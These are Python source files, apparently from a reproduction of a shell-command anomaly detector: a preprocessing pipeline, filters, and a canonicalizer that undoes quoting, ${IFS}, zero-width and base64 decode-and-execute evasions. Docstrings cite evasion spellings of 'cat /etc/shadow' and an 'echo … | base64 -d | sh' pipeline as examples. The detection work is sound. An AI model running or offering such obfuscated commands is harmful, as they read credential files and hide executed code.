from dataclasses import dataclass, field

from repro.preprocess.filters import (
    CommandFrequencyTable,
    ConcernedCommandFilter,
    ParserFilter,
)
from repro.preprocess.normalizer import Normalizer
from repro.shell.extract import CommandExtractor
from repro.shell.validate import CommandLineValidator


@dataclass
class PreprocessingStats:
    """Counters describing one pipeline run (the numbers behind Figure 2)."""

    total: int = 0
    empty_after_normalize: int = 0
    parse_failures: int = 0
    unconcerned_command: int = 0
    kept: int = 0
    occurrence_table: list[tuple[str, int]] = field(default_factory=list)

    @property
    def removed(self) -> int:
        """Total lines removed by all stages."""
        return self.empty_after_normalize + self.parse_failures + self.unconcerned_command

    def as_rows(self) -> list[tuple[str, int]]:
        """Stage-by-stage counts, suitable for tabular display."""
        return [
            ("total", self.total),
            ("empty after normalize", self.empty_after_normalize),
            ("parser filter removed", self.parse_failures),
            ("command filter removed", self.unconcerned_command),
            ("kept", self.kept),
        ]


class PreprocessingPipeline:
    """Normalize, validate, and frequency-filter raw command lines.

    Parameters
    ----------
    min_command_count:
        Minimum corpus frequency for a command name to be "concerned".
        ``fit`` derives the concerned list from the corpus it is given;
        alternatively pass an explicit ``allowed_commands`` list.
    allowed_commands:
        Explicit concerned-command list.  When provided, ``fit`` does not
        need to be called before ``transform``.
    normalizer:
        Textual normalizer applied before parsing.

    Example
    -------
    >>> pipe = PreprocessingPipeline(min_command_count=1)
    >>> kept, stats = pipe.fit_transform(["ls -l", "ls |", "dcoker ps", "ls /x"])
    >>> kept
    ['ls -l', 'ls /x']
    """

    def __init__(
        self,
        min_command_count: int = 2,
        allowed_commands: Iterable[str] | None = None,
        normalizer: Normalizer | None = None,
    ):
        if min_command_count < 1:
            raise ValueError("min_command_count must be >= 1")
        self.min_command_count = min_command_count
        self.normalizer = normalizer or Normalizer()
        self._validator = CommandLineValidator()
        self._extractor = CommandExtractor()
        self._parser_filter = ParserFilter(self._validator)
        self._frequency_table = CommandFrequencyTable(self._extractor)
        self._explicit_allowed = frozenset(allowed_commands) if allowed_commands is not None else None
        self._command_filter: ConcernedCommandFilter | None = None
        if self._explicit_allowed is not None:
            self._command_filter = ConcernedCommandFilter(
                allowed=self._explicit_allowed, extractor=self._extractor
            )

    @property
    def is_fitted(self) -> bool:
        """Whether a concerned-command list is available."""
        return self._command_filter is not None

    @property
    def concerned_commands(self) -> frozenset[str]:
        """The concerned-command list (raises if not yet fitted)."""
        if self._command_filter is None:
            raise RuntimeError("pipeline is not fitted; call fit() first")
        return self._command_filter.allowed

    @property
    def frequency_table(self) -> CommandFrequencyTable:
        """The command-occurrence table accumulated by :meth:`fit`."""
        return self._frequency_table

    def fit(self, lines: Iterable[str]) -> "PreprocessingPipeline":
        """Build the command-occurrence table and concerned list from *lines*."""
        normalized = (self.normalizer(line) for line in lines)
        valid = (line for line in normalized if line and self._validator.is_valid(line))
        self._frequency_table.update(valid)
        if self._explicit_allowed is None:
            self._command_filter = ConcernedCommandFilter(
                frequency_table=self._frequency_table,
                min_count=self.min_command_count,
                extractor=self._extractor,
            )
        return self

    def transform(self, lines: Sequence[str]) -> tuple[list[str], PreprocessingStats]:
        """Apply all stages to *lines*; return kept lines and stats."""
        if self._command_filter is None:
            raise RuntimeError("pipeline is not fitted; call fit() first")
        stats = PreprocessingStats()
        kept: list[str] = []
        for raw in lines:
            stats.total += 1
            line = self.normalizer(raw)
            if not line:
                stats.empty_after_normalize += 1
                continue
            if not self._validator.is_valid(line):
                stats.parse_failures += 1
                continue
            if not self._command_filter.accepts(line):
                stats.unconcerned_command += 1
                continue
            stats.kept += 1
            kept.append(line)
        stats.occurrence_table = self._frequency_table.most_common(20)
        return kept, stats

    def fit_transform(self, lines: Sequence[str]) -> tuple[list[str], PreprocessingStats]:
        """Fit on *lines*, then transform the same lines."""
        return self.fit(lines).transform(lines)
