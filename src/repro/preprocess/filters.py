"""Pre-processing filters from Section II-A of the paper.

Two filters are described:

1. **Parser filter** — command lines that fail to parse (typos such as
   the invalid ``->`` redirection) "can hardly be harmful" and are
   dropped.
2. **Concerned-command filter** — a list of command names of interest,
   built either from an allow-list of valid host commands or by keeping
   only names above a minimum corpus frequency, removes lines whose
   command name is a rare typo (``dcoker``, ``chdmod``).
"""

from __future__ import annotations

from collections import Counter
from collections.abc import Iterable

from repro.shell.extract import CommandExtractor
from repro.shell.validate import CommandLineValidator


class ParserFilter:
    """Keep only command lines that parse into a valid shell AST."""

    def __init__(self, validator: CommandLineValidator | None = None):
        self._validator = validator or CommandLineValidator()

    def accepts(self, line: str) -> bool:
        """Return ``True`` when *line* parses successfully."""
        return self._validator.is_valid(line)

    def filter(self, lines: Iterable[str]) -> list[str]:
        """Return the subset of *lines* that parse successfully."""
        return [line for line in lines if self.accepts(line)]


class CommandFrequencyTable:
    """Occurrence counts of command names across a corpus (Figure 2).

    The table counts the *primary* command name of each line (the first
    command invoked), which is what the typo filter cares about: a typo'd
    name appears as the head of its line.
    """

    def __init__(self, extractor: CommandExtractor | None = None):
        self._extractor = extractor or CommandExtractor()
        self._counts: Counter[str] = Counter()
        self._total_lines = 0

    def update(self, lines: Iterable[str]) -> None:
        """Count command names over *lines*; unparseable lines are skipped."""
        for line in lines:
            self._total_lines += 1
            summary = self._extractor.try_summarize(line)
            if summary is None or summary.primary_name is None:
                continue
            self._counts[summary.primary_name] += 1

    def count(self, name: str) -> int:
        """Occurrences of command *name* seen so far."""
        return self._counts[name]

    def most_common(self, n: int | None = None) -> list[tuple[str, int]]:
        """The occurrence table, most frequent first (Figure 2's table)."""
        return self._counts.most_common(n)

    def names_above(self, min_count: int) -> frozenset[str]:
        """Names whose occurrence count is at least *min_count*."""
        return frozenset(name for name, count in self._counts.items() if count >= min_count)

    def names_above_fraction(self, min_fraction: float) -> frozenset[str]:
        """Names occurring in at least *min_fraction* of counted lines."""
        if not 0.0 <= min_fraction <= 1.0:
            raise ValueError("min_fraction must be within [0, 1]")
        threshold = min_fraction * max(self._total_lines, 1)
        return frozenset(name for name, count in self._counts.items() if count >= threshold)

    def __len__(self) -> int:
        return len(self._counts)


class ConcernedCommandFilter:
    """Keep lines whose primary command is on the concerned-command list.

    The list can be provided explicitly (``allowed``) — "exhaustively
    collecting all valid commands in the host environment" — or derived
    from a :class:`CommandFrequencyTable` with a minimum count —
    "filtering out data that shows extremely low frequency".

    Lines with no command name at all (pure assignments, pure
    redirections) are kept: they are valid shell and carry signal
    (e.g. ``export https_proxy=...`` appears in Table III).
    """

    def __init__(
        self,
        allowed: Iterable[str] | None = None,
        frequency_table: CommandFrequencyTable | None = None,
        min_count: int = 2,
        extractor: CommandExtractor | None = None,
    ):
        if allowed is None and frequency_table is None:
            raise ValueError("provide either an explicit allow-list or a frequency table")
        self._extractor = extractor or CommandExtractor()
        if allowed is not None:
            self._allowed = frozenset(allowed)
        else:
            assert frequency_table is not None
            self._allowed = frequency_table.names_above(min_count)

    @property
    def allowed(self) -> frozenset[str]:
        """The concerned-command list in effect."""
        return self._allowed

    def accepts(self, line: str) -> bool:
        """Return ``True`` when the line's primary command is concerned."""
        summary = self._extractor.try_summarize(line)
        if summary is None:
            return False
        if summary.primary_name is None:
            return True
        return summary.primary_name in self._allowed

    def filter(self, lines: Iterable[str]) -> list[str]:
        """Return the subset of *lines* whose command name is concerned."""
        return [line for line in lines if self.accepts(line)]
