"""Pre-processing of raw command-line logs (Section II-A / Figure 2).

Public surface:

- :class:`Normalizer` — whitespace/control-character canonicalisation.
- :class:`Canonicalizer` — AST-backed shell canonicalization (dequote,
  ``$IFS`` resolution, wrapper stripping, flag ordering, decode-exec
  flattening) with a never-raising fallback for unparseable lines.
- :class:`ParserFilter` — drop lines the shell parser rejects.
- :class:`CommandFrequencyTable` / :class:`ConcernedCommandFilter` —
  frequency-based typo filtering.
- :class:`PreprocessingPipeline` — the full Figure-2 pipeline with stats.
- :func:`deduplicate` — test-set de-duplication (Section V).
"""

from repro.preprocess.canonicalize import (
    Canonicalizer,
    CanonicalizeResult,
    canonicalize_command_line,
)
from repro.preprocess.dedup import deduplicate, duplicate_indices, unique_fraction
from repro.preprocess.filters import (
    CommandFrequencyTable,
    ConcernedCommandFilter,
    ParserFilter,
)
from repro.preprocess.normalizer import Normalizer, normalize_command_line
from repro.preprocess.pipeline import PreprocessingPipeline, PreprocessingStats

__all__ = [
    "CanonicalizeResult",
    "Canonicalizer",
    "CommandFrequencyTable",
    "ConcernedCommandFilter",
    "Normalizer",
    "ParserFilter",
    "PreprocessingPipeline",
    "PreprocessingStats",
    "canonicalize_command_line",
    "deduplicate",
    "duplicate_indices",
    "normalize_command_line",
    "unique_fraction",
]
