"""AST-backed canonicalization of normalized command lines.

The detector scores *text*, so two functionally identical commands that
differ only in shell-level spelling (``cat /etc/shadow`` versus
``ca't' /etc/sh"ad"ow`` versus ``cat${IFS}/etc/shadow`` versus
``echo Y2F0IC9ldGMvc2hhZG93 | base64 -d | sh``) produce different token
streams — and different cache keys.  :class:`Canonicalizer` closes that
gap: it parses each line with the :mod:`repro.shell` lexer/parser and
rewrites the AST to a canonical spelling, so trivial evasion variants
collapse onto the form the model was trained on and share one score
cache entry.

Rewrites applied (all idempotent, all semantics-preserving under the
"attacker shell with default state" reading documented in the README):

- **dequote** — words whose quoting is purely decorative are reduced to
  their literal text and re-quoted only when required (shlex style).
  Words containing substitutions the lexer cannot fully account for
  (backticks, ``$VAR`` inside double quotes, non-``IFS`` expansions)
  are left untouched rather than guessed at.
- **$IFS splitting** — unquoted ``$IFS``/``${IFS}`` segments inside a
  word are resolved to word boundaries; ``${NAME:-}``-style
  empty-default expansions are resolved to empty text.
- **wrapper stripping** — no-op wrappers ``env`` (with only leading
  ``NAME=VALUE`` arguments), ``command`` and ``eval`` with fully
  literal arguments are removed and their payload spliced in place.
- **path stripping** — command names under standard binary directories
  (``/bin``, ``/usr/bin``, ``/usr/local/bin``, ``/sbin``,
  ``/usr/sbin``) are reduced to their basename.
- **flag ordering** — each contiguous run of flag words is sorted; the
  final flag of a run that is followed by a non-flag word keeps its
  place, because it may bind that word as a value (``-f file``).
- **decode-exec flattening** — pipelines of the shape
  ``echo <b64> | base64 -d | sh`` (also ``printf``/``openssl`` based
  variants) are replaced by the canonicalized decoded payload, so the
  *hidden* command is what gets scored and cached.  The synthetic
  origin is recorded on :attr:`CanonicalizeResult.decoded` (and in the
  serving ``canonicalize_decoded`` metric) rather than in the text, so
  the decoded form is byte-identical to its plainly-typed sibling.

Fallback contract: canonicalization **never raises** on the hot path.
If the input does not parse the original text passes through unchanged
with ``ok=False`` and a machine-readable ``reason`` — ``"truncated"``
when the line length indicates the upstream :class:`Normalizer` cut it
(possibly mid-quote), ``"parse_error"`` otherwise.
"""

from __future__ import annotations

import base64
import binascii
import re
from dataclasses import dataclass

from repro.errors import ShellSyntaxError
from repro.shell.ast_nodes import (
    Assignment,
    BraceGroup,
    CommandList,
    Pipeline,
    SimpleCommand,
    Subshell,
    Word,
)
from repro.shell.lexer import Lexer, TokenKind
from repro.shell.parser import Parser
from repro.shell.unparse import unparse_list

# Characters whose presence in a raw word means quoting/expansion is in
# play and a rewrite might apply; anything else is already canonical.
_QUOTEY_CHARS = ("'", '"', "\\", "$")

# shlex.quote()'s safe set: words made of these need no quoting.
_SAFE_WORD_RE = re.compile(r"^[A-Za-z0-9_@%+=:,./-]+$")

# ${NAME:-} / ${NAME-} with an empty default expands to "" whenever NAME
# is unset — the classic empty-var word-splitting trick.
_EMPTY_DEFAULT_RE = re.compile(r"^[A-Za-z_][A-Za-z0-9_]*:?-$")

_ASSIGNMENT_WORD_RE = re.compile(r"^[A-Za-z_][A-Za-z0-9_]*=")

_BASE64_PAYLOAD_RE = re.compile(r"^[A-Za-z0-9+/]+={0,2}$")

# Lines made purely of safe word characters and single spaces contain no
# quoting, no expansions, no operators, no redirects, and no comments —
# the only rewrites that could still apply are wrapper stripping, path
# stripping, and flag ordering, all checkable without a parse.
_FAST_LINE_RE = re.compile(r"^[A-Za-z0-9_@%+=:,./-]+( [A-Za-z0-9_@%+=:,./-]+)*$")

_WRAPPER_NAMES = frozenset({"env", "command", "eval"})

# Command names living directly under these directories are reduced to
# their basename; anything else (e.g. /tmp/.cache.sh) is left alone.
_STANDARD_BIN_DIRS = ("/bin/", "/usr/bin/", "/usr/local/bin/", "/sbin/", "/usr/sbin/")

_DECODE_SHELLS = frozenset({"sh", "bash", "dash", "zsh", "ash", "ksh"})
_ECHO_FLAGS = frozenset({"-n", "-e", "-E"})
_PRINTF_FORMATS = frozenset({"%s", "%s\n", "%b"})
_BASE64_DECODE_FLAGS = frozenset({"-d", "--decode", "-D"})
_BASE64_EXTRA_FLAGS = frozenset({"-i", "--ignore-garbage"})

# Nested decode-exec payloads are followed at most this deep.
_MAX_DECODE_DEPTH = 2

FAILURE_REASONS = ("parse_error", "truncated")


@dataclass(frozen=True)
class CanonicalizeResult:
    """Outcome of canonicalizing one line.

    Attributes
    ----------
    text:
        The canonical form (or the input unchanged when ``ok`` is false).
    ok:
        False when the input failed to parse and fell back to itself.
    changed:
        True when ``text`` differs from the input line.
    reason:
        ``None`` on success; ``"truncated"`` when the parse failure is
        attributable to upstream ``max_length`` truncation,
        ``"parse_error"`` for genuinely unparseable text.
    decoded:
        True when a decode-exec pipeline was flattened, i.e. ``text``
        is a synthetic line recovered from an encoded payload.
    """

    text: str
    ok: bool = True
    changed: bool = False
    reason: str | None = None
    decoded: bool = False


def _render_word(text: str) -> str:
    """Render literal *text* as a shell word, quoting only when needed."""
    if text == "":
        return "''"
    if _SAFE_WORD_RE.match(text):
        return text
    return "'" + text.replace("'", "'\\''") + "'"


class Canonicalizer:
    """Rewrite normalized command lines to canonical form.

    Parameters
    ----------
    decode_base64:
        When true (default), flatten ``echo <b64> | base64 -d | sh``
        style decode-exec pipelines into their decoded payload.
    max_passes:
        Rewrite passes to run before declaring a fixed point; cascaded
        rewrites (``eval`` inside ``env`` inside a decoded payload)
        resolve one layer per pass.
    truncation_length:
        The upstream :class:`~repro.preprocess.Normalizer` character
        cap, if known.  Parse failures on lines at least this long are
        classified ``"truncated"`` instead of ``"parse_error"``.
    """

    def __init__(
        self,
        *,
        decode_base64: bool = True,
        max_passes: int = 4,
        truncation_length: int | None = None,
    ):
        if max_passes <= 0:
            raise ValueError("max_passes must be positive")
        if truncation_length is not None and truncation_length <= 0:
            raise ValueError("truncation_length must be positive")
        self.decode_base64 = decode_base64
        self.max_passes = max_passes
        self.truncation_length = truncation_length
        self._lexer = Lexer()
        self._parser = Parser()

    # ------------------------------------------------------------------
    # public API

    def canonicalize(self, line: str) -> CanonicalizeResult:
        """Return the canonical form of *line*; never raises."""
        if not line or not line.strip():
            return CanonicalizeResult(text=line)
        if _trivially_canonical(line):
            return CanonicalizeResult(text=line)
        return self._canonicalize_text(line, depth=0)

    def __call__(self, line: str) -> CanonicalizeResult:
        return self.canonicalize(line)

    # ------------------------------------------------------------------
    # core loop

    def _canonicalize_text(self, line: str, depth: int) -> CanonicalizeResult:
        state = {"decoded": False}
        text = line
        ok = True
        reason: str | None = None
        for _ in range(self.max_passes):
            try:
                ast = self._parser.parse(text)
            except ShellSyntaxError:
                if text == line:
                    ok = False
                    reason = self._failure_reason(line)
                break
            self._rewrite_list(ast, depth, state)
            new_text = unparse_list(ast)
            if new_text == text:
                break
            text = new_text
        return CanonicalizeResult(
            text=text,
            ok=ok,
            changed=text != line,
            reason=reason,
            decoded=state["decoded"],
        )

    def _failure_reason(self, line: str) -> str:
        if self.truncation_length is not None and len(line) >= self.truncation_length:
            return "truncated"
        return "parse_error"

    # ------------------------------------------------------------------
    # AST rewriting

    def _rewrite_list(self, ast: CommandList, depth: int, state: dict) -> None:
        for pipeline in ast.pipelines:
            for command in pipeline.commands:
                if isinstance(command, (Subshell, BraceGroup)):
                    self._rewrite_list(command.body, depth, state)
                elif isinstance(command, SimpleCommand):
                    self._rewrite_simple(command)
        self._splice_evals(ast)
        if self.decode_base64 and depth < _MAX_DECODE_DEPTH:
            self._flatten_decode_exec(ast, depth, state)

    def _rewrite_simple(self, cmd: SimpleCommand) -> None:
        self._dequote_command(cmd)
        self._strip_wrappers(cmd)
        self._strip_standard_path(cmd)
        self._sort_flags(cmd)

    def _dequote_command(self, cmd: SimpleCommand) -> None:
        if cmd.name is not None:
            segments = self._rewrite_word(cmd.name)
            if segments:
                cmd.name = segments[0]
                if len(segments) > 1:
                    cmd.words[:0] = segments[1:]
        new_words: list[Word] = []
        for word in cmd.words:
            segments = self._rewrite_word(word)
            if segments is None:
                new_words.append(word)
            else:
                new_words.extend(segments)
        if new_words or cmd.name is not None or cmd.assignments or cmd.redirects:
            cmd.words = new_words
        for redirect in list(cmd.redirects):
            segments = self._rewrite_word(redirect.target)
            if segments and len(segments) == 1:
                cmd.redirects[cmd.redirects.index(redirect)] = type(redirect)(
                    operator=redirect.operator,
                    target=segments[0],
                    fd=redirect.fd,
                    position=redirect.position,
                )

    def _rewrite_word(self, word: Word) -> list[Word] | None:
        """Canonical replacement words for *word*, or ``None`` to keep it.

        An empty list means the word vanishes entirely (e.g. a bare
        ``${IFS}``).  Words containing constructs the lexer flattens
        lossily (backticks, ``$VAR`` inside double quotes) are kept
        verbatim — never guessed at.
        """
        raw = word.raw
        if not raw or not any(ch in raw for ch in _QUOTEY_CHARS):
            return None
        if "`" in raw:
            return None
        try:
            tokens = self._lexer.tokenize(raw)
        except ShellSyntaxError:
            return None
        if len(tokens) != 1 or tokens[0].kind is not TokenKind.WORD or tokens[0].value != raw:
            return None
        parts = tokens[0].parts
        # Inside double quotes the lexer folds "$VAR" into the literal
        # body text, silently consuming the "$" — if the raw dollar
        # count disagrees with the dollar-part count, an expansion hid
        # somewhere we cannot see, so do not touch the word.
        dollar_parts = sum(1 for p in parts if p.quote.startswith("$"))
        if raw.count("$") != dollar_parts:
            return None
        segments: list[list[str]] = [[]]
        for part in parts:
            if part.quote in ("", "'", '"'):
                segments[-1].append(part.text)
            elif part.quote in ("$", "${") and part.text == "IFS":
                segments.append([])
            elif part.quote == "${" and _EMPTY_DEFAULT_RE.match(part.text):
                continue
            else:
                return None
        texts = ["".join(segment) for segment in segments]
        if len(texts) > 1:
            texts = [text for text in texts if text != ""]
        rendered = [_render_word(text) for text in texts]
        if rendered == [raw]:
            return None
        return [Word(text, word.position) for text in rendered]

    def _strip_wrappers(self, cmd: SimpleCommand) -> None:
        while cmd.name is not None:
            name = cmd.name.raw
            if name == "env" and cmd.words:
                index = 0
                while index < len(cmd.words) and _ASSIGNMENT_WORD_RE.match(cmd.words[index].raw):
                    index += 1
                if index >= len(cmd.words) or cmd.words[index].is_flag:
                    break
                for word in cmd.words[:index]:
                    var, value = word.raw.split("=", 1)
                    cmd.assignments.append(Assignment(var, value, word.position))
                cmd.name = cmd.words[index]
                cmd.words = cmd.words[index + 1 :]
                continue
            if name == "command" and cmd.words and not cmd.words[0].is_flag:
                cmd.name = cmd.words[0]
                cmd.words = cmd.words[1:]
                continue
            break

    def _strip_standard_path(self, cmd: SimpleCommand) -> None:
        if cmd.name is None:
            return
        raw = cmd.name.raw
        for prefix in _STANDARD_BIN_DIRS:
            if raw.startswith(prefix):
                basename = raw[len(prefix) :]
                if basename and "/" not in basename:
                    cmd.name = Word(basename, cmd.name.position)
                return

    @staticmethod
    def _sort_flags(cmd: SimpleCommand) -> None:
        words = cmd.words
        out: list[Word] = []
        index = 0
        while index < len(words):
            if not words[index].is_flag:
                out.append(words[index])
                index += 1
                continue
            end = index
            while end < len(words) and words[end].is_flag:
                end += 1
            run = words[index:end]
            if len(run) > 1:
                if end < len(words):
                    # The run's final flag may bind the following word
                    # as its value (-f file): keep it anchored in place.
                    run = sorted(run[:-1], key=lambda w: w.raw) + [run[-1]]
                else:
                    run = sorted(run, key=lambda w: w.raw)
            out.extend(run)
            index = end
        cmd.words = out

    # ------------------------------------------------------------------
    # eval splicing

    def _literal_text(self, word: Word) -> str | None:
        """The fully literal text of *word*, or ``None`` if it expands."""
        raw = word.raw
        if not raw:
            return None
        if not any(ch in raw for ch in _QUOTEY_CHARS):
            return raw
        if "`" in raw or "$" in raw:
            return None
        try:
            tokens = self._lexer.tokenize(raw)
        except ShellSyntaxError:
            return None
        if len(tokens) != 1 or tokens[0].kind is not TokenKind.WORD or tokens[0].value != raw:
            return None
        parts = tokens[0].parts
        if any(part.quote not in ("", "'", '"') for part in parts):
            return None
        return "".join(part.text for part in parts)

    def _eval_payload(self, cmd: SimpleCommand) -> CommandList | None:
        if cmd.command_name != "eval" or not cmd.words or cmd.assignments:
            return None
        texts = []
        for word in cmd.words:
            text = self._literal_text(word)
            if text is None:
                return None
            texts.append(text)
        joined = " ".join(texts)
        if not joined.strip():
            return None
        try:
            return self._parser.parse(joined)
        except ShellSyntaxError:
            return None

    def _splice_evals(self, ast: CommandList) -> None:
        pl_index = 0
        while pl_index < len(ast.pipelines):
            pipeline = ast.pipelines[pl_index]
            spliced_list = False
            for cmd_index, command in enumerate(pipeline.commands):
                if not isinstance(command, SimpleCommand):
                    continue
                inner = self._eval_payload(command)
                if inner is None:
                    continue
                if len(inner.pipelines) == 1 and not inner.pipelines[0].negated:
                    self._splice_into_pipeline(pipeline, cmd_index, inner.pipelines[0], command)
                    break
                if (
                    len(pipeline.commands) == 1
                    and not pipeline.negated
                    and not command.redirects
                ):
                    _replace_pipeline(ast, pl_index, inner)
                    spliced_list = True
                    break
            if not spliced_list:
                pl_index += 1

    @staticmethod
    def _splice_into_pipeline(
        pipeline: Pipeline, index: int, inner: Pipeline, replaced: SimpleCommand
    ) -> None:
        commands = list(inner.commands)
        if replaced.redirects:
            if len(commands) != 1 or not isinstance(commands[0], SimpleCommand):
                return
            commands[0].redirects.extend(replaced.redirects)
        n = len(pipeline.commands)
        stderr = list(pipeline.pipe_stderr) + [False] * (n - 1 - len(pipeline.pipe_stderr))
        inner_stderr = list(inner.pipe_stderr) + [False] * (
            len(commands) - 1 - len(inner.pipe_stderr)
        )
        pipeline.commands[index : index + 1] = commands
        pipeline.pipe_stderr = stderr[:index] + inner_stderr + stderr[index:]

    # ------------------------------------------------------------------
    # decode-exec flattening

    def _flatten_decode_exec(self, ast: CommandList, depth: int, state: dict) -> None:
        pl_index = 0
        while pl_index < len(ast.pipelines):
            inner = self._decode_pipeline(ast.pipelines[pl_index], depth)
            if inner is None:
                pl_index += 1
                continue
            state["decoded"] = True
            _replace_pipeline(ast, pl_index, inner)
            pl_index += len(inner.pipelines)

    def _decode_pipeline(self, pipeline: Pipeline, depth: int) -> CommandList | None:
        if pipeline.negated or len(pipeline.commands) < 3:
            return None
        commands = pipeline.commands
        if not all(isinstance(c, SimpleCommand) for c in commands):
            return None
        if any(c.assignments or c.redirects for c in commands):
            return None
        payload = self._emitter_payload(commands[0])
        if payload is None or not _BASE64_PAYLOAD_RE.match(payload):
            return None
        if not all(self._is_base64_decoder(c) for c in commands[1:-1]):
            return None
        shell = commands[-1]
        if shell.command_name not in _DECODE_SHELLS:
            return None
        if any(word.raw != "-i" for word in shell.words):
            return None
        try:
            decoded = base64.b64decode(payload, validate=True).decode("utf-8")
        except (binascii.Error, ValueError, UnicodeDecodeError):
            return None
        text = decoded.strip()
        if not text:
            return None
        if "\n" in text:
            lines = [part.strip() for part in text.split("\n") if part.strip()]
            text = " ; ".join(lines)
        result = self._canonicalize_text(text, depth + 1)
        if not result.ok:
            return None
        try:
            return self._parser.parse(result.text)
        except ShellSyntaxError:
            return None

    def _emitter_payload(self, cmd: SimpleCommand) -> str | None:
        name = cmd.command_name
        if name == "echo":
            words = list(cmd.words)
            while words and words[0].raw in _ECHO_FLAGS:
                words.pop(0)
            if len(words) != 1:
                return None
            return self._literal_text(words[0])
        if name == "printf":
            if len(cmd.words) == 1:
                return self._literal_text(cmd.words[0])
            if len(cmd.words) == 2:
                fmt = self._literal_text(cmd.words[0])
                if fmt is None or fmt not in _PRINTF_FORMATS:
                    return None
                return self._literal_text(cmd.words[1])
        return None

    @staticmethod
    def _is_base64_decoder(cmd: SimpleCommand) -> bool:
        name = cmd.command_name
        raws = [word.raw for word in cmd.words]
        if name == "base64":
            allowed = _BASE64_DECODE_FLAGS | _BASE64_EXTRA_FLAGS
            return bool(raws) and all(r in allowed for r in raws) and any(
                r in _BASE64_DECODE_FLAGS for r in raws
            )
        if name == "openssl":
            if not raws:
                return False
            if raws[0] == "base64":
                return "-d" in raws and all(r in ("base64", "-d", "-A") for r in raws)
            if raws[0] == "enc":
                return "-d" in raws and ("-base64" in raws or "-a" in raws) and all(
                    r in ("enc", "-d", "-base64", "-a", "-A") for r in raws
                )
        return False


def _is_flag_text(word: str) -> bool:
    """Mirror of :attr:`Word.is_flag` for raw strings (fast path)."""
    return word.startswith("-") and word not in ("-", "--")


def _trivially_canonical(line: str) -> bool:
    """True when *line* is provably a fixed point without parsing.

    The hot-path shortcut: normalized telemetry is overwhelmingly plain
    (``cmd --flag value ...``), and for lines made purely of safe word
    characters the full grammar machinery proves nothing the checks
    below don't — no quoting, expansion, operator, redirect, or comment
    can hide in the safe alphabet, so only wrapper stripping, standard-
    path stripping, and flag ordering could still rewrite the line.
    Returns False (deferring to the real parse) on anything unusual.
    """
    if not _FAST_LINE_RE.match(line):
        return False
    words = line.split(" ")
    name_index = 0
    while name_index < len(words) and _ASSIGNMENT_WORD_RE.match(words[name_index]):
        name_index += 1
    if name_index >= len(words):
        return False
    name = words[name_index]
    if name.startswith("-") or name.startswith(_STANDARD_BIN_DIRS):
        return False
    if any(word in _WRAPPER_NAMES for word in words):
        return False
    # every contiguous flag run must already be in canonical order (the
    # final flag of a non-terminal run stays anchored — see _sort_flags)
    index, n = 1, len(words)
    while index < n:
        if not _is_flag_text(words[index]):
            index += 1
            continue
        end = index
        while end < n and _is_flag_text(words[end]):
            end += 1
        run = words[index:end] if end == n else words[index : end - 1]
        if any(a > b for a, b in zip(run, run[1:])):
            return False
        index = end
    return True


def _replace_pipeline(ast: CommandList, index: int, inner: CommandList) -> None:
    """Splice *inner*'s pipelines in place of ``ast.pipelines[index]``."""
    ast.pipelines[index : index + 1] = inner.pipelines
    ast.operators[index:index] = list(inner.operators)


def canonicalize_command_line(line: str) -> str:
    """Canonicalize *line* with default settings, returning the text."""
    return Canonicalizer().canonicalize(line).text
