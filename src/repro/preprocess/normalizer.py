"""Light-weight textual normalization of command lines.

Normalization happens *before* parsing and tokenization: it canonicalises
whitespace and strips control characters so that logging artifacts do not
fragment the BPE vocabulary.  It deliberately does **not** rewrite command
content — the language model must see realistic text.

Two classes of characters are handled beyond plain whitespace:

- **Control characters** (Unicode category ``Cc``, including embedded
  ``\\n``/``\\r\\n`` remnants a multi-line payload may smuggle into one
  event) become spaces, so a smuggled newline can never straddle a
  signature or token boundary.
- **Format characters** (Unicode category ``Cf`` — zero-width spaces,
  joiners, BOM, soft hyphen, bidi marks) are *deleted*: they are
  invisible in a terminal but fragment BPE tokens, which would make
  ``cat /etc/sh​adow`` tokenize unlike ``cat /etc/shadow`` — a free
  evasion for an attacker.
"""

from __future__ import annotations

import re
import unicodedata
from functools import lru_cache

# ASCII control characters (including \n, \r, \v, \f; excluding \t which
# the whitespace collapse owns) become spaces.  \x0a is deliberately IN
# this class: an embedded newline is a word separator, never content.
_CONTROL_CHARS_RE = re.compile(r"[\x00-\x08\x0a-\x1f\x7f]")
_WHITESPACE_RE = re.compile(r"[ \t]+")


@lru_cache(maxsize=4096)
def _non_ascii_replacement(ch: str) -> str | None:
    """Replacement for a non-ASCII char: '' (delete Cf), ' ' (Cc), None (keep)."""
    category = unicodedata.category(ch)
    if category == "Cf":
        return ""
    if category == "Cc":
        return " "
    return None


def _strip_unicode_controls(text: str) -> str:
    """Drop Cf and map non-ASCII Cc to spaces (ASCII handled by regex)."""
    out: list[str] = []
    for ch in text:
        replacement = _non_ascii_replacement(ch) if ord(ch) > 0x7F else None
        out.append(ch if replacement is None else replacement)
    return "".join(out)


class Normalizer:
    """Canonicalise raw log text.

    Parameters
    ----------
    max_length:
        Lines longer than this many characters are truncated (the paper
        trims inputs to the model's maximum token count; an upstream
        character cap keeps parser cost bounded on adversarial inputs).
    collapse_whitespace:
        When true (default), runs of spaces/tabs become a single space.
    """

    def __init__(self, max_length: int = 4096, collapse_whitespace: bool = True):
        if max_length <= 0:
            raise ValueError("max_length must be positive")
        self.max_length = max_length
        self.collapse_whitespace = collapse_whitespace

    def normalize(self, line: str) -> str:
        """Return the canonical form of *line*."""
        if not line.isascii():
            line = _strip_unicode_controls(line)
        text = _CONTROL_CHARS_RE.sub(" ", line)
        if self.collapse_whitespace:
            text = _WHITESPACE_RE.sub(" ", text)
        text = text.strip()
        if len(text) > self.max_length:
            text = text[: self.max_length]
        return text

    def __call__(self, line: str) -> str:
        return self.normalize(line)


def normalize_command_line(line: str) -> str:
    """Normalize *line* with default :class:`Normalizer` settings."""
    return Normalizer().normalize(line)
