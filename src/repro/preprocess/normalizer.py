"""Light-weight textual normalization of command lines.

Normalization happens *before* parsing and tokenization: it canonicalises
whitespace and strips control characters so that logging artifacts do not
fragment the BPE vocabulary.  It deliberately does **not** rewrite command
content — the language model must see realistic text.
"""

from __future__ import annotations

import re

_CONTROL_CHARS_RE = re.compile(r"[\x00-\x08\x0b-\x1f\x7f]")
_WHITESPACE_RE = re.compile(r"[ \t]+")


class Normalizer:
    """Canonicalise raw log text.

    Parameters
    ----------
    max_length:
        Lines longer than this many characters are truncated (the paper
        trims inputs to the model's maximum token count; an upstream
        character cap keeps parser cost bounded on adversarial inputs).
    collapse_whitespace:
        When true (default), runs of spaces/tabs become a single space.
    """

    def __init__(self, max_length: int = 4096, collapse_whitespace: bool = True):
        if max_length <= 0:
            raise ValueError("max_length must be positive")
        self.max_length = max_length
        self.collapse_whitespace = collapse_whitespace

